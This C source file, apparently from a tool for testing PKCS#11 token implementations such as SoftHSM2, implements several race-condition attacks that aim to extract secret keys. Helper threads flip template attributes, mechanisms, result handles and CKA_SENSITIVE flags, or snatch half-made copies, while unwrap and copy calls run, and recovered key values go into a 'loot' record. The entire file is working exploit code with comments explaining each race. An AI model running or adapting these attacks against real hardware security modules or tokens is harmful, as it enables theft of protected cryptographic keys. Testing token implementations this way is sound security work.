// Attacks that have two things happen at once. Each runs until it has stolen
// something or has used up its tries.

#define _GNU_SOURCE
#include "calls.h"

#include <pthread.h>
#include <stdatomic.h>
#include <stddef.h>
#include <string.h>
#include <time.h>

#ifdef __linux__
#include <sched.h>
#include <sys/resource.h>
#include <sys/syscall.h>
#include <unistd.h>
#endif

// look reads the object that came of a try and destroys it.
static int look(functions_t *f, ulong_t session, ulong_t handle, loot_t *out) {
	attribute_t value = {CKA_VALUE, out->value, sizeof out->value};
	ulong_t rv = f->call[GET_ATTRIBUTE_VALUE](session, handle, &value, 1ul);
	f->call[DESTROY_OBJECT](session, handle);
	if (rv != CKR_OK) return 0;
	out->len = value.len;
	return 1;
}

static attribute_t *find(unwrap_t *u, ulong_t type) {
	for (ulong_t i = 0; i < u->count; i++)
		if (u->template[i].type == type) return &u->template[i];
	return NULL;
}

// thief_alias puts the values of the attributes named, each a CK_BBOOL that is
// true, into the memory where the call is to write the handle. Whoever writes
// there before the last use of the template writes over them, and no second
// thread is needed.
void thief_alias(unwrap_t *u, const ulong_t *types, ulong_t n, loot_t *out) {
	union { ulong_t handle; byte_t flags[sizeof(ulong_t)]; } shared;
	void *own[sizeof shared.flags];
	memset(&shared, 1, sizeof shared);
	for (ulong_t i = 0; i < n; i++) {
		attribute_t *a = find(u, types[i]);
		own[i] = a->value;
		a->value = &shared.flags[i];
	}
	out->tries = 1;
	if (thief_unwrap(u, &shared.handle) == CKR_OK) {
		out->ok = 1;
		look(u->f, u->session, shared.handle, out);
	}
	for (ulong_t i = 0; i < n; i++) find(u, types[i])->value = own[i];
}

// spin passes a little time, differently long each time.
static void spin(unsigned *seed) {
	*seed = *seed * 1103515245u + 12345u;
	for (unsigned n = (*seed >> 16) % 2000; n > 0; n--) atomic_signal_fence(memory_order_seq_cst);
}

typedef struct {
	atomic_int stop;
	volatile byte_t *flags[8]; // changed between want and its opposite
	const byte_t *want;
	ulong_t n;
	volatile ulong_t *word; // changed between a and b, or NULL
	ulong_t a, b;
} flipper_t;

static void *flip(void *arg) {
	flipper_t *p = arg;
	unsigned seed = 1;
	while (!atomic_load(&p->stop)) {
		for (ulong_t i = 0; i < p->n; i++) *p->flags[i] = p->want[i];
		if (p->word) *p->word = p->b;
		spin(&seed);
		for (ulong_t i = 0; i < p->n; i++) *p->flags[i] = !p->want[i];
		if (p->word) *p->word = p->a;
		spin(&seed);
	}
	return NULL;
}

static void race(unwrap_t *u, flipper_t *p, ulong_t tries, loot_t *out) {
	pthread_t thread;
	if (pthread_create(&thread, NULL, flip, p) != 0) return;
	while (out->tries < tries) {
		ulong_t handle = 0;
		out->tries++;
		if (thief_unwrap(u, &handle) != CKR_OK) continue;
		out->ok++;
		if (look(u->f, u->session, handle, out) || p->word != NULL) break;
	}
	atomic_store(&p->stop, 1);
	pthread_join(thread, NULL);
}

// thief_race_template has a second thread change the values of attributes, all
// of them CK_BBOOLs that are pinned to the opposite, while calls are under way.
void thief_race_template(unwrap_t *u, const ulong_t *types, const byte_t *want, ulong_t n, ulong_t tries, loot_t *out) {
	flipper_t p = {.want = want, .n = n};
	for (ulong_t i = 0; i < n; i++) p.flags[i] = find(u, types[i])->value;
	race(u, &p, tries, out);
}

// thief_race_mechanism has a second thread change the mechanism while calls are
// under way. The first that is answered with CKR_OK ends it: the blob must be
// one that only the other mechanism unwraps.
void thief_race_mechanism(unwrap_t *u, ulong_t other, ulong_t tries, loot_t *out) {
	flipper_t p = {.word = &u->mechanism.type, .a = u->mechanism.type, .b = other};
	race(u, &p, tries, out);
}

// thief_race_result has a second thread write the handle of an object of the
// thief's own where the call writes its result. Whoever reads the result there
// again to complete the new object completes the thief's.
void thief_race_result(unwrap_t *u, ulong_t own, ulong_t tries, loot_t *out) {
	volatile ulong_t result = own;
	flipper_t p = {.word = &result, .a = own, .b = own};
	attribute_t value = {CKA_VALUE, out->value, sizeof out->value};
	byte_t before[sizeof out->value];
	if (u->f->call[GET_ATTRIBUTE_VALUE](u->session, own, &value, 1ul) != CKR_OK) return;
	memcpy(before, out->value, value.len);
	pthread_t thread;
	if (pthread_create(&thread, NULL, flip, &p) != 0) return;
	while (out->tries < tries && out->len == 0) {
		out->tries++;
		if (thief_unwrap(u, (ulong_t *)&result) != CKR_OK) continue;
		out->ok++;
		value.len = sizeof out->value;
		if (u->f->call[GET_ATTRIBUTE_VALUE](u->session, own, &value, 1ul) == CKR_OK && memcmp(before, out->value, value.len) != 0)
			out->len = value.len;
	}
	atomic_store(&p.stop, 1);
	pthread_join(thread, NULL);
}

// newest finds the object that matches and was found or made last, by its
// handle: SoftHSM2 gives them in order.
static ulong_t newest(functions_t *f, ulong_t session, attribute_t *t, ulong_t n) {
	static _Thread_local ulong_t object[8192];
	ulong_t found = 0;
	if (f->call[FIND_OBJECTS_INIT](session, t, n) != CKR_OK) return 0;
	f->call[FIND_OBJECTS](session, object, 8192ul, &found);
	f->call[FIND_OBJECTS_FINAL](session);
	return found > 0 ? object[found - 1] : 0;
}

typedef struct {
	atomic_int stop;
	functions_t *f;
	ulong_t session;
} meddler_t;

// meddle finds secret keys that are not sensitive, which one in the making is
// not yet, and sets CKA_SENSITIVE to false over and over. The token checks that
// it has not become true and then writes false; what is written in between is
// undone. Many such changes in one call leave little time for anything else.
static void *meddle(void *arg) {
	enum { MANY = 512 };
	meddler_t *p = arg;
	byte_t no = 0;
	ulong_t class = CKO_SECRET_KEY;
	attribute_t begun[] = {{CKA_CLASS, &class, sizeof class}, {CKA_TOKEN, &no, 1}, {CKA_SENSITIVE, &no, 1}};
	attribute_t set[MANY];
	for (int i = 0; i < MANY; i++) set[i] = (attribute_t){CKA_SENSITIVE, &no, 1};
	ulong_t known = newest(p->f, p->session, begun, 3);
	while (!atomic_load(&p->stop)) {
		ulong_t object = newest(p->f, p->session, begun, 3);
		if (object <= known) continue;
		while (!atomic_load(&p->stop) && p->f->call[SET_ATTRIBUTE_VALUE](p->session, object, set, (ulong_t)MANY) == CKR_OK) {
		}
		known = object;
	}
	return NULL;
}

// thief_race_object unwraps with an honest template while a second thread, with
// a session of its own, changes the object in the making.
void thief_race_object(unwrap_t *u, ulong_t session2, ulong_t tries, loot_t *out) {
	meddler_t p = {.f = u->f, .session = session2};
	pthread_t thread;
	if (pthread_create(&thread, NULL, meddle, &p) != 0) return;
	while (out->tries < tries) {
		ulong_t handle = 0;
		out->tries++;
		if (thief_unwrap(u, &handle) != CKR_OK) continue;
		out->ok++;
		if (look(u->f, u->session, handle, out)) break;
	}
	atomic_store(&p.stop, 1);
	pthread_join(thread, NULL);
}

typedef struct {
	atomic_int stop, stolen;
	unwrap_t *u; // its key is the one to copy
	ulong_t session2, tries;
	int cpu;
	loot_t *out;
} copier_t;

// share has a thread run on one processor only, and give way to others there or
// not. Elsewhere than on Linux it is left to luck who is interrupted when.
static void share(int cpu, int give_way) {
#ifdef __linux__
	cpu_set_t one;
	CPU_ZERO(&one);
	CPU_SET(cpu, &one);
	sched_setaffinity(0, sizeof one, &one);
	if (give_way) setpriority(PRIO_PROCESS, (id_t)syscall(SYS_gettid), 19);
#else
	(void)cpu;
	(void)give_way;
#endif
}

static int this_cpu(void) {
#ifdef __linux__
	return sched_getcpu();
#else
	return 0;
#endif
}

// copy copies the key with an empty template again and again. It runs on the
// same processor as snatch and gives way to it, so that it is interrupted
// wherever it happens to be.
static void *copy(void *arg) {
	copier_t *p = arg;
	share(p->cpu, 1);
	while (p->out->tries < p->tries && !atomic_load(&p->stolen)) {
		attribute_t none;
		ulong_t handle = 0;
		p->out->tries++;
		if (p->u->f->call[COPY_OBJECT](p->u->session, p->u->key, &none, 0ul, &handle) == CKR_OK) p->out->ok++;
	}
	atomic_store(&p->stop, 1);
	return NULL;
}

// open_with unwraps the blob under a copy, for everybody to read.
static int open_with(copier_t *p, ulong_t key) {
	ulong_t class = CKO_SECRET_KEY, type = CKK_AES, handle = 0;
	byte_t yes = 1, no = 0;
	attribute_t t[] = {{CKA_CLASS, &class, sizeof class}, {CKA_KEY_TYPE, &type, sizeof type}, {CKA_TOKEN, &no, 1},
	                   {CKA_SENSITIVE, &no, 1}, {CKA_EXTRACTABLE, &yes, 1}};
	unwrap_t u = *p->u;
	u.session = p->session2;
	u.key = key;
	u.template = t;
	u.count = sizeof t / sizeof t[0];
	return thief_unwrap(&u, &handle) == CKR_OK && look(u.f, u.session, handle, p->out);
}

// snatch copies what copy has begun to make. A copy of a part of the attributes
// is a key without the others.
static void *snatch(void *arg) {
	copier_t *p = arg;
	functions_t *f = p->u->f;
	byte_t no = 0;
	ulong_t class = CKO_SECRET_KEY;
	attribute_t secret = {CKA_CLASS, &class, sizeof class}, session_object = {CKA_TOKEN, &no, 1};
	share(p->cpu, 0);
	ulong_t known = newest(f, p->session2, &secret, 1);
	while (!atomic_load(&p->stop)) {
		struct timespec nap = {0, 20000};
		nanosleep(&nap, NULL);
		ulong_t object = newest(f, p->session2, &secret, 1), twin = 0;
		if (object <= known) continue;
		known = object;
		if (f->call[COPY_OBJECT](p->session2, object, &session_object, 1ul, &twin) != CKR_OK) continue;
		known = twin;
		if (open_with(p, twin)) {
			atomic_store(&p->stolen, 1);
			return NULL;
		}
		f->call[DESTROY_OBJECT](p->session2, twin);
	}
	return NULL;
}

// thief_race_copy copies u's key while a second thread, with a session of its
// own, copies the copy in the making, and unwraps u's blob with what it gets.
void thief_race_copy(unwrap_t *u, ulong_t session2, ulong_t tries, loot_t *out) {
	copier_t p = {.u = u, .session2 = session2, .tries = tries, .cpu = this_cpu(), .out = out};
	pthread_t a, b;
	if (pthread_create(&b, NULL, snatch, &p) != 0) return;
	if (pthread_create(&a, NULL, copy, &p) == 0) pthread_join(a, NULL);
	atomic_store(&p.stop, 1);
	pthread_join(b, NULL);
}
